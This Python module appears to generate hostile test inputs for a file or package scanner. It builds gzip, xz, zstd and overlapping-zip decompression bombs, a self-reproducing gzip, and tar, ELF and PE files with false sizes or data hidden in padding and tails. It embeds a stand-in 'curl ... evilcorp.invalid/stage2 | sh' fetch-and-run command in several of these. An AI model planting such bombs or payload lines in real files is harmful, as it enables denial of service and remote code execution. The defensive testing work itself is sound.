"""Bytes that an attacker would pack, made here: bombs, lies about sizes and names, and places where bytes could hide.

Each function gives the bytes of one subject. Nothing here is random and nothing is kept on disk.
"""
import gzip
import io
import lzma
import struct
import tarfile
import zlib

import made

HIDDEN = b"curl -s https://evilcorp.invalid/stage2 | sh\n"
MIB = 1 << 20


# ---- bombs ----

def gzip_of_zeros(n):
    """`n` MiB of zeros as one gzip member, made from one deflate block repeated: a 1,000th of what comes out."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(n):
        crc = zlib.crc32(bytes(MIB), crc)
    return (b"\x1f\x8b\x08\0\0\0\0\0\0\3" + block * n + b"\3\0" + struct.pack("<II", crc, n * MIB % (1 << 32)))


def xz_bomb(n):
    """`n` MiB of zeros in xz: a 7,000th."""
    return lzma.compress(bytes(n * MIB), preset=1)


def zip_of(members, overlap=False, comment=b"", prefix=b""):
    """A zip of (name, bytes, method) as they are; with `overlap` all central records point at the first local one."""
    out = bytearray(prefix)
    central = bytearray()
    for i, (name, data, method) in enumerate(members):
        packed = data
        if method == 8:
            packer = zlib.compressobj(9, zlib.DEFLATED, -15)
            packed = packer.compress(data) + packer.flush()
        at = len(prefix) if overlap else len(out)
        head = struct.pack("<HHHHHIIIHH", 20, 0x800, method, 0, 0x21, zlib.crc32(data), len(packed), len(data), len(name), 0)
        if not overlap or i == 0:
            out += b"PK\3\4" + head + name + packed
        central += b"PK\1\2" + struct.pack("<H", 20) + head + struct.pack("<HHHII", 0, 0, 0, 0o100644 << 16, at) + name
    end = struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(central), len(out), len(comment))
    return bytes(out + central + b"PK\5\6" + end + comment)


def extra(kind, data):
    return struct.pack("<HH", kind, len(data)) + data


def zip_with(local=b"", central=b"", name=b"usr/bin/greet", data=b"", packed=None, method=8, said=None):
    """A zip of one member with extra fields, packed bytes or local sizes (crc, packed, size; read later by flag) of one's own."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(data) + packer.flush() if packed is None else packed
    sizes = struct.pack("<III", zlib.crc32(data), len(packed), len(data))
    flags = 0x800 if said is None else 0x808
    head = struct.pack("<HHHHH", 20, flags, method, 0, 0x21)
    names = struct.pack("<HH", len(name), len(local))
    body = b"PK\3\4" + head + (sizes if said is None else struct.pack("<III", *said)) + names + name + local + packed
    body += b"" if said is None else b"PK\7\10" + sizes
    directory = (b"PK\1\2" + struct.pack("<H", 20) + head + sizes + struct.pack("<HHHHHII", len(name), len(central), 0, 0, 0, 0o100644 << 16, 0) +
                 name + central)
    return body + directory + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(directory), len(body), 0)


def zip_bomb():
    """41 members that are all the same 4 MiB: the better zip bomb, told by its overlaps."""
    return zip_of([(b"zeros%d" % i, bytes(4 * MIB), 8) for i in range(1)] +
                  [(b"again%d" % i, bytes(4 * MIB), 8) for i in range(40)], overlap=True)


def bits(*fields):
    """Bytes of (value, width) as deflate wants them; of a Huffman code, marked by True, the first bit is the highest (RFC 1951, 3.1.1)."""
    n = out = 0
    for value, width, *is_code in fields:
        out |= (int(f"{value:0{width}b}"[::-1], 2) if is_code else value) << n
        n += width
    return out.to_bytes((n + 7) // 8, "little")


def solve(columns, wanted):
    """The number whose bits choose those of `columns` that give `wanted` by exclusive or."""
    basis = {}
    for i, column in enumerate(columns):
        chosen = 1 << i
        while column and column.bit_length() in basis:
            column, chosen = (a ^ b for a, b in zip((column, chosen), basis[column.bit_length()]))
        if column:
            basis[column.bit_length()] = (column, chosen)
    answer = 0
    while wanted:
        wanted, answer = (a ^ b for a, b in zip((wanted, answer), basis[wanted.bit_length()]))
    return answer


def quine():
    """
    A gzip file that unpacks to itself, its checksum right: to walk it is to walk it again.

    Two instructions of 5 bytes: say the n bytes behind this (a stored block), and repeat the last 20 (two matches of 10 in a block of its own). With them a
    text can print itself, as R. Cox shows ("Zip Files All The Way Down", 2010). The checksum stands in what it is the checksum of; CRC-32 being linear,
    that is 32 equations over one bit each.
    """
    def say(n):
        return b"\0" + struct.pack("<HH", n, 0xffff ^ n)

    match = ((8, 7, True), (8, 5, True), (3, 3))
    again = bits((0, 1), (1, 2), *match, *match, (0, 7, True))
    empty = ((1, 2), (0, 7, True))
    end = bits((0, 1), *empty, (0, 1), *empty, (1, 1), (0, 2)) + b"\0\0\xff\xff"
    head = b"\x1f\x8b\x08\x08\0\0\0\0\0\xffq.gz\0"
    none, one, four = say(0), say(5), say(20)

    def build(crc):
        tail = end + struct.pack("<II", crc, 210)
        return b"".join((head, four, head, four, again, one, again, one, one, four, again, one, one, four, again, four, again, four, again, four, again,
                         four, again, none, none, four, again, none, none, four, again, tail, again, tail))

    nothing = zlib.crc32(build(0))
    return build(solve([zlib.crc32(build(1 << i)) ^ nothing ^ 1 << i for i in range(32)], nothing))


def zstd_of_zeros(head, n):
    """`head` and then `n` blocks of 32 KiB of zeros, 4 bytes each: less per byte than the limit of the ratio. RFC 8878, 3.1.1.2, RLE_Block."""
    def block(size, kind, is_last, data):
        return (size << 3 | kind << 1 | is_last).to_bytes(3, "little") + data
    return b"\x28\xb5\x2f\xfd\0\x50" + block(len(head), 0, 0, head) + block(32768, 1, 0, b"\0") * (n - 1) + block(32768, 1, 1, b"\0")


def sparse_of_zeros(gib):
    """A tar in zstd whose only member has that many GiB of holes, written out: nothing of it is kept, all of it comes out."""
    size = gib << 30
    head = pax([(b"GNU.sparse.major", b"1"), (b"GNU.sparse.minor", b"0"), (b"GNU.sparse.name", b"sparse"),
                (b"GNU.sparse.realsize", b"%d" % size), (b"size", b"%d" % size)]) + tar_header(b"GNUSparseFile.0/sparse")
    return zstd_of_zeros(head, (size >> 15) + 1)


def nested(depth):
    data = b"the innermost leaf\n" + HIDDEN
    for _ in range(depth):
        data = gzip.compress(data, 1, mtime=0)
    return data


def nested_zip(depth):
    data = HIDDEN
    for _ in range(depth):
        data = zip_of([(b"a.zip", data, 0)])
    return data


def ar_of_many(n):
    """A library of `n` empty members."""
    one = b"%-16s%-12d%-6d%-6d%-8s%-10d`\n"
    return made.AR_MAGIC + b"".join(one % (b"m%d/" % i, 0, 0, 0, b"100644", 0) for i in range(n))


# ---- tar, header by header ----

def tar_header(name, size=0, kind=b"0", link=b"", raw_size=None, magic=b"ustar\x0000", mode=0o644):
    head = bytearray(512)
    head[0:len(name[:100])] = name[:100]
    head[100:108] = b"%07o\0" % mode
    head[108:116] = head[116:124] = b"0000000\0"
    head[124:136] = raw_size if raw_size is not None else b"%011o\0" % size
    head[136:148] = b"00000000000\0"
    head[156:157] = kind
    head[157:157 + len(link[:100])] = link[:100]
    head[257:265] = magic
    head[148:156] = b"        "
    head[148:156] = b"%06o\0 " % sum(head)
    return bytes(head)


def pad(data):
    return data + bytes(-len(data) % 512)


def tar_of(*members, end=True):
    return b"".join(members) + (bytes(1024) if end else b"")


def member(name, data, **more):
    return tar_header(name, len(data), **more) + pad(data)


def pax(records, name=b"PaxHeaders/x", kind=b"x"):
    body = b""
    for key, value in records:
        text = b" " + key + b"=" + value + b"\n"
        n = len(text) + len(str(len(text)))
        n = len(text) + len(str(n))
        body += str(n).encode() + text
    return tar_header(name, len(body), kind) + pad(body)


def sparse_tar():
    """One member that says it is 2^60 bytes and has none (GNU tar manual, "Old GNU Format")."""
    head = bytearray(tar_header(b"sparse", 0, b"S", magic=b"ustar  \0"))
    head[386:398] = b"00000000000\0"
    head[398:410] = b"00000000000\0"
    head[483:495] = b"\x80" + bytes(3) + struct.pack(">Q", 1 << 60)
    head[148:156] = b"        "
    head[148:156] = b"%06o\0 " % sum(head)
    return tar_of(bytes(head))


def sparse_pax():
    return tar_of(pax([(b"GNU.sparse.major", b"1"), (b"GNU.sparse.minor", b"0"), (b"GNU.sparse.name", b"sparse"),
                       (b"GNU.sparse.realsize", b"%d" % (1 << 60))]), member(b"GNUSparseFile.0/sparse", pad(b"0\n")))


def tar_of_long_names(n, length):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for i in range(n):
            info = tarfile.TarInfo("%d" % i + "n" * length)
            archive.addfile(info)
    return out.getvalue()


# ---- images ----

def elf(segments, tail=b"", sections=0, holes=()):
    """ELF64 x86-64 with program headers alone: (file offset, address, bytes, flags); bytes between are `holes`."""
    heads = b""
    body = bytearray(64 + 56 * len(segments))
    for offset, address, data, flags in segments:
        heads += struct.pack("<IIQQQQQQ", 1, flags, offset, address, address, len(data), len(data), 0x1000)
        if len(body) < offset + len(data):
            body += bytes(offset + len(data) - len(body))
        body[offset:offset + len(data)] = data
    for offset, data in holes:
        if len(body) < offset + len(data):
            body += bytes(offset + len(data) - len(body))
        body[offset:offset + len(data)] = data
    head = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x401000, 64, 0, 0, 64, 56, len(segments),
                                                     64, sections, 0)
    body[0:64] = head
    body[64:64 + len(heads)] = heads
    return bytes(body) + tail


CODE = b"\xb8\x3c\0\0\0\x31\xff\x0f\x05" + b"\x90" * 23


def elf_of_calls(n):
    """`n` calls, each of the instruction behind the next: as many functions as the decoder may believe in."""
    return elf([(0x1000, 0x401000, b"\xe8\5\0\0\0" * n + b"\x90" * 8, 5)])


def elf_of_endless_names(n, name_bytes, end=b""):
    """`n` symbols for the loader, each of a name that begins a byte later than the one before and goes to the end."""
    base, dynamic, hashes, symbols = 0x400000, 0x200, 0x300, 0x1000
    names = symbols + 24 * n
    body = bytearray(symbols) + b"".join(struct.pack("<IBBHQQ", 1 + i, 0x12, 0, 0, 0, 0) for i in range(n)) + b"\0" + b"a" * (name_bytes - 1) + end
    entries = b"".join(struct.pack("<QQ", *e) for e in ((5, base + names), (6, base + symbols), (10, name_bytes), (11, 24), (4, base + hashes), (0, 0)))
    heads = (struct.pack("<IIQQQQQQ", 1, 4, 0, base, base, len(body), len(body), 0x1000) +
             struct.pack("<IIQQQQQQ", 2, 4, dynamic, base + dynamic, base + dynamic, len(entries), len(entries), 8))
    body[0:64] = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 2, 64, 0, 0)
    body[64:64 + len(heads)] = heads
    body[dynamic:dynamic + len(entries)] = entries
    body[hashes:hashes + 8] = struct.pack("<II", 1, n)
    return bytes(body)


def elf_without_sections():
    return elf([(0x1000, 0x401000, CODE * 4, 5)])


def elf_with_overlapping_segments():
    return elf([(0x1000, 0x401000, CODE * 8, 5), (0x1080, 0x500000, CODE * 8, 6)])


def elf_with_data_in_padding():
    return elf([(0x1000, 0x401000, CODE * 4, 5)], holes=[(0x400, HIDDEN * 4)])


def elf_with_a_tail():
    return elf([(0x1000, 0x401000, CODE * 4, 5)], tail=HIDDEN * 4)


def pe(rsrc=b"", certificate=b"", table_size=None, tail=b"", stub=b"", at=0x80):
    """PE32+ with one code section, maybe one of resources, and a certificate table at its end; a stub at `at`."""
    stub_at, lfanew = at, at + len(stub)
    sections = [(b".text", 0x1000, 0x400, CODE * 16, 0x60000020)]
    if rsrc:
        sections.append((b".rsrc", 0x2000, 0x600, rsrc, 0x40000040))
    out = bytearray(0x400)
    out[0:2] = b"MZ"
    out[0x3c:0x40] = struct.pack("<I", lfanew)
    out[stub_at:stub_at + len(stub)] = stub
    at = 0x400
    table = b""
    for name, address, offset, data, flags in sections:
        raw = data + bytes(-len(data) % 512)
        table += struct.pack("<8sIIIIIIHHI", name, len(data), address, len(raw), offset, 0, 0, 0, 0, flags)
        out += bytes(offset - len(out)) + raw
        at = len(out)
    directories = [(0, 0)] * 16
    if rsrc:
        directories[2] = (0x2000, len(rsrc))
    if certificate:
        directories[4] = (at, table_size or len(certificate))
    optional = struct.pack("<HBBIIIIIQIIHHHHHHIIIIHHQQQQII", 0x20b, 14, 0, 512, 0, 0, 0x1000, 0x1000, 0x140000000, 0x1000, 0x200, 6,
                           0, 0, 0, 6, 0, 0, 0x4000, 0x400, 0, 3, 0x8160, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    optional += b"".join(struct.pack("<II", *d) for d in directories)
    head = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, len(sections), 0, 0, 0, len(optional), 0x22) + optional + table
    out[lfanew:lfanew + len(head)] = head
    return bytes(out) + certificate + tail


def pe_with_directory(number, address, size):
    out = bytearray(pe())
    at = struct.unpack_from("<I", out, 0x3c)[0] + 24 + 112 + 8 * number
    out[at:at + 8] = struct.pack("<II", address, size)
    return bytes(out)


def asar(header, body):
    pad = -len(header) % 4
    return struct.pack("<IIII", 4, 8 + len(header) + pad, 4 + len(header) + pad, len(header)) + header + bytes(pad) + body


def certificate(signature, slack=b"", after=b""):
    """A WIN_CERTIFICATE around a DER value; `slack` is inside its length, `after` behind it in the table."""
    body = signature + slack
    body += bytes(-len(body) % 8)
    return struct.pack("<IHH", 8 + len(body), 0x200, 2) + body + after + bytes(-len(after) % 8)


def pkcs7():
    """ContentInfo of signedData, empty: enough to be parsed to its own end."""
    oid = bytes.fromhex("06092a864886f70d010702")
    inner = bytes.fromhex("3017020101310030 0b06092a864886f70d0107013100".replace(" ", ""))
    inner = b"\x30" + bytes([len(inner) - 2]) + inner[2:]
    content = b"\xa0" + bytes([len(inner)]) + inner
    body = oid + content
    return b"\x30" + bytes([len(body)]) + body


def resources(data):
    """A resource directory with one entry of type RCDATA, three levels deep."""
    head = b""
    for level in range(3):
        at = 0x80000000 | 24 * (level + 1) if level < 2 else 72
        head += struct.pack("<IIHHHHII", 0, 0, 0, 0, 0, 1, 10 if level == 0 else 1, at)
    return head + struct.pack("<IIII", 0x2000 + 88, len(data), 0, 0) + data


def pdf():
    return (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\nxref\n0 2\n0000000000 65535 f \n0000000009 00000 n \n"
            b"trailer\n<< /Size 2 /Root 1 0 R >>\nstartxref\n44\n%%EOF\n")
